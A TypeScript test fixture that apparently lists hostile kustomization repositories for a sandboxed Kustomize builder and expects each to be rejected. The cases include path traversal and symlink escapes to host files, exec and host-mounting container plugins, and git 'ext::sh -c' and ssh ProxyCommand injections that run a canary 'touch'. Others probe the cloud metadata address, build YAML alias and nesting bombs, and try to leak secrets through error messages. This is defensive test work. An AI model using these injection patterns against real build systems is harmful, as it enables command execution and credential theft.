import type { KustomizeBuildOptions } from '../buildOptions';
import { configMap } from './corpus/case';
import type { Files } from './KustomizeBed';

/** A repository that tries to reach what is not its own. Its kustomization is in `app/deep`. */
export interface Attack {
  files: Files;
  links?: Files;
  buildOptions?: KustomizeBuildOptions;
  /** What the user is told. */
  message: RegExp;
}

/** In the repository, but outside of the kustomization's folder. */
export const REPOSITORY_CANARY = 'canary-in-the-repository';

const OWN = { 'app/deep/own.yaml': configMap('own') };
const SECRET = {
  'app/secret.yaml': configMap('secret', `value: ${REPOSITORY_CANARY}`),
};

const says = (
  fields: string,
  message: RegExp,
  more: Partial<Attack> = {},
): Attack => ({
  message,
  ...more,
  files: {
    ...OWN,
    ...SECRET,
    'app/deep/kustomization.yaml': fields,
    ...more.files,
  },
});

const OUTSIDE_FOLDER = /outside of its folder/;
const OUTSIDE = /outside of its repository/;

/** Every field that names a file, with one path in it. */
const fieldsNaming = (path: string): Record<string, string> => ({
  resources: `resources: [${path}]\n`,
  bases: `bases: [${path}]\n`,
  components: `components: [${path}]\n`,
  patches: `resources: [own.yaml]\npatches:\n- path: ${path}\n`,
  'strategic patches': `resources: [own.yaml]\npatchesStrategicMerge: [${path}]\n`,
  'JSON patches': `resources: [own.yaml]\npatchesJson6902:\n- target: {version: v1, kind: ConfigMap, name: own}\n  path: ${path}\n`,
  replacements: `resources: [own.yaml]\nreplacements:\n- path: ${path}\n`,
  'generator files': `configMapGenerator:\n- name: c\n  files: [${path}]\n`,
  'generator keys': `secretGenerator:\n- name: c\n  files: [k=${path}]\n`,
  'generator envs': `configMapGenerator:\n- name: c\n  envs: [${path}]\n`,
  'generator env': `configMapGenerator:\n- name: c\n  env: ${path}\n`,
  crds: `resources: [own.yaml]\ncrds: [${path}]\n`,
  configurations: `resources: [own.yaml]\nconfigurations: [${path}]\n`,
  openapi: `resources: [own.yaml]\nopenapi: {path: ${path}}\n`,
  transformers: `resources: [own.yaml]\ntransformers: [${path}]\n`,
  'names in capitals': `RESOURCES: [${path}]\n`,
  'transformer in place': `resources: [own.yaml]\ntransformers:\n- |-\n  {apiVersion: builtin, kind: PatchTransformer, metadata: {name: p}, path: ${path}}\n`,
  'generator in a list': `generators:\n- |-\n  {apiVersion: v1, kind: List, items: [{apiVersion: builtin, kind: ConfigMapGenerator, metadata: {name: p}, name: c, files: [${path}]}]}\n`,
});

const inEachField = (
  what: string,
  path: string,
  message: RegExp,
): Record<string, Attack> =>
  Object.fromEntries(
    Object.entries(fieldsNaming(path)).map(([field, fields]) => [
      `${what} in ${field}`,
      says(fields, message),
    ]),
  );

/** @param canary - absolute path of a file on the machine */
export function attacks(canary: string): Record<string, Attack> {
  const up = `${'../'.repeat(20)}${canary.slice(1)}`;
  const helm = { enableHelm: true };
  const script = `touch ${canary}.ran`;
  return {
    ...inEachField('a path above the repository', up, OUTSIDE),
    ...inEachField('an absolute path', canary, OUTSIDE),
    'a file above the folder': says(
      'resources: [../secret.yaml]\n',
      OUTSIDE_FOLDER,
    ),
    'a file above the folder, in a generator': says(
      'secretGenerator:\n- name: s\n  files: [x=../secret.yaml]\n',
      OUTSIDE_FOLDER,
    ),
    'a path above the repository without restrictions': says(
      `resources: [${up}]\n`,
      OUTSIDE,
      { buildOptions: { unrestrictedFiles: true } },
    ),
    'a path that hides its way': says(
      `resources: ["own.yaml/../../../${up}"]\n`,
      OUTSIDE,
    ),
    'NUL in a path': says('resources: ["own.yaml\\0.yaml"]\n', OUTSIDE),
    'a link to a file of the machine': says(
      'resources: [l.yaml]\n',
      /l\.yaml leads out/,
      {
        links: { 'app/deep/l.yaml': canary },
      },
    ),
    'a link up and out': says('resources: [l.yaml]\n', /l\.yaml leads out/, {
      links: { 'app/deep/l.yaml': up },
    }),
    'a chain of links': says('resources: [one]\n', /three leads out/, {
      links: {
        'app/deep/one': 'two',
        'app/deep/two': '../three',
        'app/three': canary,
      },
    }),
    'a loop of links': says('resources: [one]\n', /does not end/, {
      links: { 'app/deep/one': 'two', 'app/deep/two': 'one' },
    }),
    'a linked folder': says('resources: [l/x.yaml]\n', /deep\/l leads out/, {
      links: { 'app/deep/l': '/' },
    }),
    'a link to a file above the folder': says(
      'configMapGenerator:\n- name: c\n  files: [l.yaml]\n',
      OUTSIDE_FOLDER,
      { links: { 'app/deep/l.yaml': '../secret.yaml' } },
    ),
    'a linked kustomization': {
      files: { ...OWN, ...SECRET },
      links: { 'app/deep/kustomization.yaml': canary },
      message: /kustomization\.yaml leads out/,
    },
    'a function that runs a program': says(
      'resources: [own.yaml]\ntransformers: [run.yaml]\n',
      /plugin|function/i,
      {
        files: {
          'app/deep/run.yaml':
            'apiVersion: example.com/v1\nkind: Run\nmetadata:\n  name: r\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: ./run.sh\n',
          'app/deep/run.sh': `#!/bin/sh\n${script}\n`,
        },
      },
    ),
    'a function in a container': says(
      'resources: [own.yaml]\ngenerators: [run.yaml]\n',
      /plugin|function/i,
      {
        files: {
          'app/deep/run.yaml':
            'apiVersion: example.com/v1\nkind: Run\nmetadata:\n  name: r\n  annotations:\n    config.kubernetes.io/function: |\n      container:\n        image: example.com/evil\n        network: true\n        mounts: [{type: bind, src: /, dst: /host}]\n',
        },
      },
    ),
    'a plugin of its own': says(
      'resources: [own.yaml]\nvalidators: [run.yaml]\n',
      /plugin/i,
      {
        files: {
          'app/deep/run.yaml':
            'apiVersion: someteam.example.com/v1\nkind: Exec\nmetadata: {name: r}\nargsOneLiner: x\n',
        },
      },
    ),
    'an address of the machine': says(
      `resources: ["file://${canary}"]\n`,
      /files on disk are not allowed/,
    ),
    'a repository of the machine': says(
      `resources: ["git::file://${canary}//x?ref=main"]\n`,
      /files on disk are not allowed/,
    ),
    'a transport that runs a program': says(
      `resources: ["ext::sh -c '${script}'", "git::ext::sh -c ${script.replaceAll(
        ' ',
        '% ',
      )}//x"]\n`,
      /ext::sh/,
    ),
    'an option for ssh': says(
      `resources: ["ssh://-oProxyCommand=${script.replaceAll(
        ' ',
        '%20',
      )}/org/repo"]\n`,
      /not known/,
    ),
    'a host of the cluster': says(
      'resources: ["http://169.254.169.254/latest/meta-data.yaml"]\n',
      /status 404/,
    ),
    'an address in a plugin': says(
      'resources: [own.yaml]\ntransformers: [p.yaml]\n',
      /status 404/,
      {
        files: {
          'app/deep/p.yaml':
            'apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: p}\npath: http://127.0.0.1:1/x\n',
        },
      },
    ),
    'a chart where none are allowed': says(
      'helmCharts:\n- name: x\n  repo: https://charts.example.com\n',
      /not enabled/,
    ),
    'charts of the machine': says(
      `helmGlobals: {chartHome: ${canary}}\nhelmCharts: [{name: x}]\n`,
      OUTSIDE,
      { buildOptions: helm },
    ),
    'a chart by a path': says(`helmCharts: [{name: "${up}"}]\n`, OUTSIDE, {
      buildOptions: helm,
    }),
    'a chart that is not there': says(
      'helmCharts: [{name: gone, repo: "https://charts.example.com"}]\n',
      /no chart gone/,
      { buildOptions: helm },
    ),
    'values of the machine': says(
      `helmCharts:\n- name: c\n  valuesFile: ${up}\n`,
      OUTSIDE,
      {
        buildOptions: helm,
        files: {
          'app/deep/charts/c/Chart.yaml':
            'apiVersion: v2\nname: c\nversion: 1.0.0\n',
        },
      },
    ),
    'itself as its base': says(
      'resources: [.]\n',
      /cycle: app\/deep → app\/deep/,
    ),
    'the folder above as its base': {
      files: {
        ...OWN,
        'app/kustomization.yaml': 'resources: [deep]\n',
        'app/deep/kustomization.yaml': 'resources: [..]\n',
      },
      message: /cycle: app\/deep → app/,
    },
    'a cycle over others': {
      files: {
        'app/deep/kustomization.yaml': 'resources: [../b]\n',
        'app/b/kustomization.yaml': 'resources: [../c]\n',
        'app/c/kustomization.yaml': 'components: [../deep]\n',
      },
      message: /cycle: app\/deep → app\/b → app\/c → app\/deep/,
    },
    'itself as a remote base': says(
      'resources: ["{{self}}/app/deep"]\n',
      /cycle: app\/deep of remote-base-1 → app\/deep of remote-base-1/,
    ),
    'a bomb of aliases': says(
      `a: &a [x,x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
        .split('')
        .map(
          (name, i) =>
            `${name}: &${name} [${`*${'abcdefghi'[i]},`
              .repeat(10)
              .slice(0, -1)}]\n`,
        )
        .join('')}resources: [own.yaml]\n`,
      /./,
    ),
    'a bomb of nesting': says(
      `resources: ${'['.repeat(5000)}${']'.repeat(5000)}\n`,
      /kustomization\.yaml/,
    ),
    'a kustomization without an end': says(
      `# ${'x'.repeat(300_000)}\nresources: [own.yaml]\n`,
      /bytes/,
    ),
    'two kustomizations': says('resources: [own.yaml]\n', /several/, {
      files: { 'app/deep/Kustomization': 'resources: []\n' },
    }),
    'no kustomization in a base': says(
      'resources: [../other]\n',
      /no kustomization\.yaml in app\/other/,
      { files: { 'app/other/x.yaml': configMap('x') } },
    ),
    'a file that is not there': says('resources: [gone.yaml]\n', /gone\.yaml/),
    'a secret in a generator that fails': says(
      `secretGenerator:\n- name: s\n  envs: [gone.env]\n  literals: [p=${REPOSITORY_CANARY}]\n`,
      /gone\.env/,
    ),
    'a secret without a key': says(
      `secretGenerator:\n- name: s\n  literals: [${REPOSITORY_CANARY}]\n`,
      /literal/,
    ),
    'a secret in a patch that fails': says(
      `resources: [own.yaml]\npatches:\n- patch: "data: {p: ${REPOSITORY_CANARY}}"\n`,
      /patch/,
    ),
    'a secret in a JSON patch that fails': says(
      `resources: [own.yaml]\npatches:\n- target: {kind: ConfigMap}\n  patch: '[{"op": "test", "path": "/data/a", "value": "${REPOSITORY_CANARY}"}]'\n`,
      /./,
    ),
    'a secret in YAML that is broken': says(
      'resources: [own.yaml, s.yaml]\n',
      /s\.yaml/,
      {
        files: {
          'app/deep/s.yaml': `kind: Secret\nstringData:\n  p: ${REPOSITORY_CANARY}\n bad: [${REPOSITORY_CANARY}\n`,
        },
      },
    ),
    'no mapping': says('- a\n- b\n', /not a kustomization/),
    'a field that is not known': says('resource: [own.yaml]\n', /resource/),
  };
}
